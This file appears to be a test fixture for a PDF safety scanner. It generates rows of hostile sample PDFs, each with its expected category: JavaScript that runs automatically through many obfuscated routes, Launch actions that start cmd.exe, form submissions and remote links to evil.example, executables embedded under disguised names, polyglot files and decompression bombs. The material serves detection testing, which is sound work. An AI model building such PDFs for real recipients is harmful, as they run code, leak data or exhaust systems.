import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { ENCODINGS, packedPdf, updatedPdf } from './packed-pdf';
import { makePdf, stream } from './pdf';
import { exe, plainZip, png } from './plain';
import { type Row, rows } from './row';

const runs = rows('pdf', 'executable');
const leads = rows('pdf', 'outside');
const carries = rows('pdf', 'attachments');
const bursts = rows('pdf', 'too-expanded');
const breaks = rows('pdf', 'damaged');

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const opens = '/OpenAction 10 0 R';
const opening = (action: string) => makePdf({ catalog: opens, objects: { 10: action } });

const attached = (name: string, content: string | Buffer, about = '/Type/EmbeddedFile') =>
  makePdf({
    catalog: `/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>`,
    objects: { 10: `<</Type/Filespec/F(${name})/UF(${name})/EF<</F 11 0 R>>>>`, 11: stream(content, about) },
  });
const xfa = (template: string) =>
  makePdf({
    catalog: '/AcroForm<</Fields[]/XFA[(template) 10 0 R]>>',
    objects: {
      10: stream(`<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/">${template}</template>`),
    },
  });

/** A script that runs on opening, in a file of which only the owner's password is set. */
async function encrypted(): Promise<Buffer> {
  const document = await PDFDocument.load(opening(SCRIPT));
  document.encrypt({ ownerPassword: 'owner', userPassword: '' });
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

/** An object within another one's stream, where only the table leads. */
const hiddenIn = (container: string) => {
  const at = makePdf({ catalog: opens, objects: { 9: container } }).indexOf('10 0 obj');
  return makePdf({ catalog: opens, objects: { 9: container }, lies: { 10: at } });
};

const packedScript = { catalog: opens, objects: { 10: SCRIPT } };

export const harmfulPdfs: Row[] = [
  // Scripts, wherever they hang.
  runs('a script on opening', opening(SCRIPT), 'mutool show'),
  runs(
    'a script in a stream',
    makePdf({ catalog: opens, objects: { 10: '<</S/JavaScript/JS 11 0 R>>', 11: stream('app.alert(1)') } }),
    'mutool show',
  ),
  runs(
    'a script by name',
    makePdf({ catalog: '/Names<</JavaScript<</Names[(a) 10 0 R]>>>>', objects: { 10: SCRIPT } }),
    'pdfinfo -js',
  ),
  runs('a script when the page opens', makePdf({ page: `/AA<</O ${SCRIPT}>>` }), 'pdfinfo -js'),
  runs('a script when the document closes', makePdf({ catalog: `/AA<</WC ${SCRIPT}>>` }), 'pdfinfo -js'),
  runs(
    'a script behind a link',
    makePdf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${SCRIPT}>>]` }),
    'pdfinfo -js',
  ),
  runs(
    'a script that formats a field',
    makePdf({
      catalog: '/AcroForm<</Fields[10 0 R]>>',
      page: '/Annots[10 0 R]',
      objects: { 10: `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</F ${SCRIPT}>>>>` },
    }),
    'pdfinfo -js',
  ),
  runs(
    'a script behind a bookmark',
    makePdf({
      catalog: '/Outlines 10 0 R',
      objects: { 10: '<</First 11 0 R/Last 11 0 R/Count 1>>', 11: `<</Title(a)/Parent 10 0 R/A ${SCRIPT}>>` },
    }),
    'mutool show',
  ),
  runs(
    'a script after a step within the document',
    makePdf({ catalog: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next ${SCRIPT}>>` }),
    'mutool show',
  ),
  runs(
    'a script of a rendition',
    makePdf({ catalog: '/OpenAction<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>' }),
    'mutool show',
  ),
  runs(
    'a script in a link',
    makePdf({
      page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI( JavaScript:alert\\(1\\))>>>>]',
    }),
    'mutool show',
  ),
  runs(
    'a script of a 3D model',
    makePdf({
      page: '/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 10 0 R>>]',
      objects: { 10: stream('', '/Type/3D/Subtype/U3D/OnInstantiate 11 0 R'), 11: stream('x') },
    }),
    'mutool show',
  ),
  // The same, otherwise written.
  runs('a script, spelt in code', opening('<</#53/J#61vaScript/J#53(app.alert\\(1\\))>>'), 'mutool show'),
  runs(
    'a script of an indirect kind',
    makePdf({
      catalog: opens,
      objects: { 10: '<</S 11 0 R/JS 12 0 R>>', 11: '/JavaScript', 12: '(app.alert\\(1\\))' },
    }),
    'mutool show',
  ),
  runs(
    'a script between comments',
    opening('<<%>>\n/S%(\n/JavaScript%endobj\n/JS(app.alert\\(1\\))>>'),
    'mutool show',
  ),
  runs(
    'a script behind a text with an end',
    opening('<</T(endobj stream 1 0 obj)/S/JavaScript/JS(app.alert\\(1\\))>>'),
    'mutool show',
  ),
  runs('a script in hexadecimal', opening('<</S/JavaScript/JS<6170702E616C6572742831293B>>>'), 'mutool show'),
  runs('a script behind an unfinished text', opening('<</S/JavaScript/JS(app.alert\\(1\\))/T(>>')),
  runs('a script behind words that do not belong', opening('<</T 1 2 3/S/JavaScript/JS(app.alert\\(1\\))>>')),
  runs(
    'a script without line breaks around its number',
    Buffer.from(opening(SCRIPT).toString('latin1').replace('10 0 obj\n', '10 0 obj'), 'latin1'),
    'mutool show',
  ),
  // Where only some readers look.
  runs(
    'a script in a later version',
    updatedPdf({}, { 1: `<</Type/Catalog/Pages 2 0 R/OpenAction ${SCRIPT}>>` }),
    'mutool show',
  ),
  runs(
    'a script in an earlier version',
    updatedPdf({ catalog: `/OpenAction ${SCRIPT}` }, { 1: '<</Type/Catalog/Pages 2 0 R>>' }),
  ),
  runs(
    'a script that only the table finds',
    hiddenIn(stream(`10 0 obj ${SCRIPT} endobj`).toString('latin1')),
    'mutool show',
  ),
  runs(
    'a script that only a search finds',
    makePdf({ catalog: opens, objects: { 10: SCRIPT }, noTable: true }),
    'mutool show',
  ),
  runs('a script in the trailer', makePdf({ trailer: `/Info<</A ${SCRIPT}>>` }), 'mutool show'),
  ...Object.keys(ENCODINGS).map((encoding) =>
    runs(`a script packed by ${encoding}`, packedPdf(packedScript, { encoding }), 'mutool show'),
  ),
  runs('a script packed in a stream of no type', packedPdf(packedScript, { type: '/Other' })),
  runs(
    'a script packed in a stream of a type in code',
    packedPdf(packedScript, { type: '/Obj#53tm' }),
    'mutool show',
  ),
  runs('a script in a file with an owner password', encrypted, 'mutool show'),
  // Other actions.
  runs('a launch', opening('<</S/Launch/F(cmd.exe)>>'), 'mutool show'),
  runs('a launch of Windows', opening('<</S/L#61unch/Win<</F(cmd.exe)/P(/c calc)>>>>'), 'mutool show'),
  runs(
    'a launch from packed objects',
    packedPdf({ catalog: opens, objects: { 10: '<</S/Launch/F(cmd.exe)>>' } }),
    'mutool show',
  ),
  runs('an import of data', opening('<</S/ImportData/F(a.fdf)>>'), 'mutool show'),
  runs(
    'a film',
    makePdf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' }),
    'mutool show',
  ),
  leads(
    'a step into another file',
    opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>'),
    'mutool show',
  ),
  leads('a step into an embedded file', opening('<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>'), 'mutool show'),
  leads(
    'a form that is sent',
    opening('<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>'),
    'mutool show',
  ),
  leads('an address visited on opening', opening('<</S/URI/URI(https://evil.example)>>'), 'mutool show'),
  leads(
    'a content that is elsewhere',
    makePdf({ objects: { 4: '<</F(\\\\\\\\evil.example\\\\a)/Length 0>>\nstream\n\nendstream' } }),
    'mutool show',
  ),
  // Forms of XFA.
  runs(
    'a form with a script',
    xfa('<subform><field name="a"><event activity="initialize"><script>1</script></event></field></subform>'),
    'mutool show',
  ),
  runs(
    'a form with a script of another prefix',
    xfa('<x:script xmlns:x="http://www.xfa.org/schema/xfa-template/3.0/">1</x:script>'),
    'mutool show',
  ),
  breaks(
    'a form that defines entities',
    makePdf({
      catalog: '/AcroForm<</XFA 10 0 R>>',
      objects: { 10: stream('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>') },
    }),
  ),
  // Files within.
  carries('an attached program', attached('cv.exe', exe), 'pdfdetach'),
  carries(
    'an attached program, named as a picture',
    attached('cv.png', Buffer.concat([exe, Buffer.alloc(99)])),
    'pdfdetach',
  ),
  carries(
    'an attached program, packed',
    attached(
      'cv.png',
      deflateSync(Buffer.concat([exe, Buffer.alloc(99)])),
      '/Type/EmbeddedFile/Filter/FlateDecode',
    ),
    'pdfdetach',
  ),
  carries(
    'an attached document',
    attached('cv.docm', deflateSync(plainZip), '/Type/EmbeddedFile/Filter/FlateDecode'),
    'pdfdetach',
  ),
  carries(
    'an attached page of script',
    attached(
      'cv.xml',
      deflateSync('<html><script>alert(1)</script></html>'),
      '/Type/EmbeddedFile/Filter/FlateDecode',
    ),
    'pdfdetach',
  ),
  carries('an attachment without a type', attached('cv.js', 'alert(1)', ''), 'pdfdetach'),
  carries('a portfolio', makePdf({ catalog: '/Collection<</View/T>>' }), 'mutool show'),
  // Files of two kinds.
  runs('a PDF that ends as zip', Buffer.concat([makePdf(), plainZip]), 'unzip'),
  runs('a PDF that ends as zip with a comment', Buffer.concat([makePdf(), plainZip, Buffer.alloc(60_000)])),
  runs('a PDF that is a web page as well', makePdf({ before: '<html><script>alert(1)</script>' }), 'pdfinfo'),
  runs('a PDF that is a script as well', makePdf({ before: '#!/bin/sh\n' })),
  runs('a program before a PDF', makePdf({ before: exe })),
  runs(
    'a PDF around a program',
    makePdf({ objects: { 10: stream('MZ This program cannot be run in DOS mode') } }),
  ),
  { ...rows('pdf', 'wrong-type')('a picture before a PDF', makePdf({ before: png })), kind: 'picture' },
  // Bombs.
  bursts('a bomb of packed objects', () => packedPdf({ objects: { 10: ' '.repeat(20_000_000) } })),
  bursts('a bomb of many streams', () =>
    makePdf({
      objects: Object.fromEntries(
        Array.from({ length: 12 }, (_, n) => [
          10 + n,
          stream(deflateSync(Buffer.alloc(3_000_000, 32)), '/Type/ObjStm/N 0/First 0/Filter/FlateDecode'),
        ]),
      ),
    }),
  ),
  bursts('a bomb within a bomb', () =>
    makePdf({
      objects: {
        10: stream(
          deflateSync(deflateSync(Buffer.alloc(100_000_000))),
          '/Type/ObjStm/N 1/First 9/Filter[/FlateDecode/FlateDecode]',
        ),
      },
    }),
  ),
  bursts('a bomb of many objects', () =>
    Buffer.concat([makePdf(), Buffer.from('1 0 obj 1 endobj '.repeat(110_000))]),
  ),
  // What cannot be looked into.
  breaks(
    'packed objects that cannot be unpacked',
    packedPdf(packedScript, { change: (packed) => packed.fill(0xff, 2) }),
  ),
  breaks(
    'packed objects in a picture',
    makePdf({ objects: { 10: stream('x', '/Type/ObjStm/N 1/First 9/Filter/DCTDecode') } }),
  ),
];
